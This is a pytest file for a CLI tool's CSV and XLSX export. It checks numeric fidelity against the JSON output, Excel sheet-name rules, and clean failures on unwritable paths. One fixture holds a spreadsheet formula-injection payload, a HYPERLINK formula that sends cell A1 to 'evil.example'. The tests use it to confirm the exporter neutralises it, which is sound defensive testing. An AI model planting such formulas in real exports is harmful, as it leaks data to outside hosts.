"""``stakegraph analyze … --csv DIR / --xlsx FILE``: the printed tables saved as files, formula-safe.

The commands run with Typer's CliRunner against an embedded store holding the bundled sample
(data/sample) plus one hostile customer whose name is a spreadsheet formula. Proofs:

* the numbers in the files are the numbers of ``--json`` (the same run of the same analytic), and
  Tech Co.'s CR-5 recomputed by hand from the CSV's own customer values is 86.76 (the sample's
  documented figure, tests/test_scenarios.py);
* the hostile name comes back neutralised (``'=HYPERLINK…``) from the csv module and from openpyxl,
  typed as a string, and the sheet XML holds no formula element;
* sheet names obey Excel's rules; a path that cannot be written gives exit code 1, an error naming
  the path and what to do, and leaves no file (not even a temporary one) behind.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner, Result

from stakegraph.analyses import CATALOGUE
from stakegraph.cli.main import app
from stakegraph.export import (
    FORMULA_PREFIXES,
    SHEET_NAME_MAX,
    ExportError,
    sheet_names,
    slug,
    to_csv_files,
    to_xlsx_sheets,
)
from stakegraph.loaders import load
from stakegraph.model import EdgeRecord, NodeRecord
from stakegraph.samples.sample import DEFAULT_DIR as SAMPLE
from stakegraph.store import EmbeddedStore

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
ANALYZE = list(CATALOGUE)  # every generated command
runner = CliRunner()


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample in an embedded store, plus victim_co whose two customers include one named HOSTILE."""
    d = tmp_path_factory.mktemp("cli_export")
    with EmbeddedStore(d / "stakegraph.sqlite") as store:
        assert not load(SAMPLE, store).errors
        store.upsert_nodes([
            NodeRecord("victim_co", "party", {"name": "Victim Co.", "kind": "corporate"}),
            NodeRecord("evil_co", "party", {"name": HOSTILE, "kind": "corporate"}),
            NodeRecord("plain_co", "party", {"name": "Plain Co.", "kind": "corporate"}),
        ])
        store.upsert_edges([
            EdgeRecord("r_evil_buys", "buys_from", "evil_co", "victim_co", {"annual_revenue": 3000.0}),
            EdgeRecord("r_plain_buys", "buys_from", "plain_co", "victim_co", {"annual_revenue": 1000.0}),
        ])
    return d


@pytest.fixture(autouse=True)
def _store_env(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STAKEGRAPH_DATA_DIR", str(data_dir))
    monkeypatch.delenv("STAKEGRAPH_NEO4J_URI", raising=False)


def run(*args: str) -> Result:
    return runner.invoke(app, ["analyze", *args], env={"COLUMNS": "200"})


def ok(*args: str) -> Result:
    res = run(*args)
    assert res.exit_code == 0, (res.output, res.exception)
    return res


def read_csv(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese names
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def by_measure(rows: list[list[str]]) -> dict[str, str]:
    return {r[0]: r[1] for r in rows[1:]}


def no_leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.startswith(".") or p.suffix == ".tmp")


# -- the options exist ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("command", ANALYZE)
def test_every_analyze_command_offers_csv_and_xlsx(command: str) -> None:
    res = runner.invoke(app, ["analyze", command, "--help"], env={"COLUMNS": "300"})
    assert res.exit_code == 0
    assert "--csv" in res.output and "--xlsx" in res.output
    assert "slugs of the table titles" in " ".join(res.output.split())


# -- numbers -------------------------------------------------------------------------------------------------

def test_concentration_csv_numbers_are_the_json_numbers(tmp_path: Path) -> None:
    data = json.loads(ok("concentration", "tech_co", "--kinds", "buys_from", "--json").stdout)["result"]
    res = ok("concentration", "tech_co", "--kinds", "buys_from", "--csv", str(tmp_path / "out"))
    shares_csv = tmp_path / "out" / "concentration-tech-co.csv"
    summary_csv = tmp_path / "out" / "concentration-summary-tech-co.csv"
    assert res.stderr.splitlines() == [f"wrote {shares_csv}", f"wrote {summary_csv}"]
    assert "86.76%" in res.stdout  # the terminal table is still printed

    shares = read_csv(shares_csv)
    assert shares[0] == ["counterparty", "name", "value", "share %", "major"]
    assert [(r[0], float(r[2]), float(r[3])) for r in shares[1:]] == [
        (s["counterparty"], s["value"], s["pct"]) for s in data["shares"]]  # exact: repr round-trips
    values = [float(r[2]) for r in shares[1:]]
    assert sum(sorted(values, reverse=True)[:5]) / sum(values) * 100 == pytest.approx(86.76, abs=1e-9)  # by hand

    summary = by_measure(read_csv(summary_csv))
    assert float(summary["CR-5"]) == data["cr_k"] == pytest.approx(86.76, abs=1e-9)  # a number, not "86.76%"
    assert float(summary["HHI (0-10,000)"]) == data["hhi"]  # not "1,972.2"
    assert float(summary["HHI (0-1)"]) == data["hhi_unit"]
    assert int(summary["edges without weight"]) == len(data["unweighted_edges"])


def test_portfolio_xlsx_numbers_are_numbers_and_equal_json(tmp_path: Path) -> None:
    args = ("portfolio-concentration", "--kinds", "buys_from", "--min-counterparties", "2", "--top", "1000")
    rows = json.loads(ok(*args, "--json").stdout)["result"]["rows"]
    assert len(rows) < 1000  # every row is in the sheet
    ok(*args, "--xlsx", str(tmp_path / "p.xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx")["concentration-portfolio"]
    assert [c.value for c in ws[1]][:7] == ["node", "name", "n", "HHI", "CR-5", "top", "top %"]
    got = [[c.value for c in r][:7] for r in ws.iter_rows(min_row=2)]
    # XLSX keeps 16 significant digits (openpyxl writes %.16g; Excel itself computes with 15)
    assert got == [[r["node"], r["name"], r["n"], pytest.approx(r["hhi"], rel=1e-15), pytest.approx(r["cr_k"], rel=1e-15),
                    r["top_counterparty"], pytest.approx(r["top_pct"], rel=1e-15)] for r in rows]
    assert all(ws.cell(row=i, column=4).data_type == "n" for i in range(2, ws.max_row + 1))
    tech = next(r for r in got if r[0] == "tech_co")
    assert tech[4] == pytest.approx(86.76, abs=1e-9)


def test_contagion_tables_in_one_workbook_and_as_csv(tmp_path: Path) -> None:
    data = json.loads(ok("contagion", "epc_main", "--json").stdout)["result"]  # the EPC's default reaches projects
    res = ok("contagion", "epc_main", "--xlsx", str(tmp_path / "c.xlsx"), "--csv", str(tmp_path / "c"))
    wb = openpyxl.load_workbook(tmp_path / "c.xlsx")
    stems = sorted(p.stem for p in (tmp_path / "c").glob("*.csv"))
    assert sorted(wb.sheetnames) == stems == ["contagion", "contagion-paths", "contagion-projects"]
    assert len(res.stderr.splitlines()) == 4  # three CSVs and the workbook, one line each
    ws = wb["contagion"]
    loss = {r[0].value: r[2].value for r in ws.iter_rows(min_row=2)}
    for p in data["parties"][:20]:
        assert loss[p["party"]] == pytest.approx(p["loss"], rel=1e-15)
    epc = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "epc_main")
    assert epc[5].value is True and epc[5].data_type == "b"  # "default" is a boolean, shown "yes" on screen
    projects = {r[0].value for r in wb["contagion-projects"].iter_rows(min_row=2)}
    assert projects == {x["project"] for x in data["projects"][:20]}


# -- formula injection ---------------------------------------------------------------------------------------

def test_hostile_name_is_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    res = ok("concentration", "victim_co", "--kinds", "buys_from", "--csv", str(tmp_path / "csv"),
             "--xlsx", str(tmp_path / "x.xlsx"))
    assert "evil_co" in res.stdout  # the table is printed as before

    rows = read_csv(tmp_path / "csv" / "concentration-victim-co.csv")
    evil = next(r for r in rows if r[0] == "evil_co")
    assert evil[1] == "'" + HOSTILE
    assert float(evil[2]) == 3000.0 and float(evil[3]) == 75.0  # 3000 / (3000 + 1000), by hand

    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    ws = wb["concentration-victim-co"]
    cell = next(r[1] for r in ws.iter_rows(min_row=2) if r[0].value == "evil_co")
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f"
                assert not (isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)), c.coordinate
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


# -- names ---------------------------------------------------------------------------------------------------

def test_sheet_names_follow_excels_rules() -> None:
    titles = ["Parties [all]: a/b\\c*?", "parties [ALL]: a/b\\c*?", "x" * 40, "x" * 40, "'quoted'", "History", "",
              "Summary", "SUMMARY"]
    names = sheet_names(titles)
    assert names[0] == "Parties -all-- a-b-c--"
    assert names[1] == "parties -ALL-- a-b-c---2"  # unique ignoring case
    assert names[2] == "x" * 31 and names[3] == "x" * 29 + "-2"
    assert names[4] == "quoted" and names[5] == "history-sheet" and names[6] == "sheet"
    assert names[7:] == ["Summary", "SUMMARY-2"]
    assert len({n.lower() for n in names}) == len(names)
    for n in names:
        assert 0 < len(n) <= SHEET_NAME_MAX
        assert not set(n) & set("[]:*?/\\") and not n.startswith("'") and not n.endswith("'")


def test_long_and_repeated_titles_in_a_real_workbook(tmp_path: Path) -> None:
    long = "Relationship health of every counterparty: weakest first"
    tables: list[tuple[str, list[str], list[Any]]] = [(long, ["a"], [[1]]), (long, ["a"], [[2]]),
                                                      ("a:b", ["a"], [{"a": 3}])]
    wb = openpyxl.load_workbook(to_xlsx_sheets(tables, tmp_path / "t.xlsx"))
    assert wb.sheetnames == [long[:31], long[:29] + "-2", "a-b"]
    assert [wb[n]["A2"].value for n in wb.sheetnames] == [1, 2, 3]
    paths = to_csv_files(tables, tmp_path / "csv")
    assert [p.name for p in paths] == [f"{slug(long)}.csv", f"{slug(long)}-2.csv", "a-b.csv"]


def test_segments_sheet_names_are_the_csv_stems(tmp_path: Path) -> None:
    ok("segments", "--csv", str(tmp_path / "s"), "--xlsx", str(tmp_path / "s.xlsx"))
    stems = [p.stem for p in sorted((tmp_path / "s").glob("*.csv"))]
    assert sorted(openpyxl.load_workbook(tmp_path / "s.xlsx").sheetnames) == stems == [
        "parties-by-rating", "parties-by-risk-appetite", "parties-by-size", "segments"]


# -- errors --------------------------------------------------------------------------------------------------

def test_unwritable_csv_folder_is_a_clear_error_and_writes_nothing(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    res = run("groups", "--csv", str(blocker / "out"))
    assert res.exit_code == 1
    assert str(blocker / "out") in res.stderr and "choose a folder you can write to" in res.stderr
    assert "Connected groups" in res.stdout  # the analysis itself ran and printed
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"]


def test_unwritable_xlsx_path_is_a_clear_error_and_writes_nothing(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    res = run("cofinancing", "--xlsx", str(blocker / "c.xlsx"))
    assert res.exit_code == 1
    assert f"cannot create folder {blocker}" in res.stderr and "choose a folder you can write to" in res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"]
    (tmp_path / "taken.xlsx").mkdir()  # a folder where the workbook should go: refused before the analysis
    res = run("cofinancing", "--xlsx", str(tmp_path / "taken.xlsx"))
    assert res.exit_code == 2 and "is a directory" in res.output and not any((tmp_path / "taken.xlsx").iterdir())
    res = run("cofinancing", "--xlsx", str(tmp_path / "missing" / "deeper" / "c.xlsx"))
    assert res.exit_code == 0, res.output  # a missing folder is created, like --csv DIR
    assert (tmp_path / "missing" / "deeper" / "c.xlsx").is_file()
    assert no_leftovers(tmp_path) == []


def test_a_failure_mid_export_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import stakegraph.export as export

    out = tmp_path / "out"
    out.mkdir()
    (out / "kept.xlsx").write_bytes(b"old workbook")
    calls = []
    real = export._write_csv

    def second_fails(path: Path, cols: Any, rows: Any) -> None:
        calls.append(path)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real(path, cols, rows)

    monkeypatch.setattr(export, "_write_csv", second_fails)
    tables: list[tuple[str, list[str], list[Any]]] = [("one", ["a"], [[1]]), ("two", ["a"], [[2]])]
    with pytest.raises(ExportError, match="cannot write .*two.csv: No space left on device; choose a writable path"):
        to_csv_files(tables, out)
    assert sorted(p.name for p in out.iterdir()) == ["kept.xlsx"]  # one.csv was written to a temp file only

    def save_fails(self: Any, filename: Any) -> None:
        Path(filename).write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", save_fails)
    with pytest.raises(ExportError, match="kept.xlsx"):
        to_xlsx_sheets(tables, out / "kept.xlsx")
    assert sorted(p.name for p in out.iterdir()) == ["kept.xlsx"]
    assert (out / "kept.xlsx").read_bytes() == b"old workbook"  # the previous file is untouched


def test_csv_or_xlsx_with_json_is_a_usage_error(tmp_path: Path) -> None:
    res = run("groups", "--json", "--csv", str(tmp_path / "g"))
    assert res.exit_code == 2 and "--json prints none" in res.output
    res = run("groups", "--xlsx", str(tmp_path / "g.csv"))
    assert res.exit_code == 2 and "does not end in .xlsx" in res.output
    assert not any(tmp_path.iterdir())
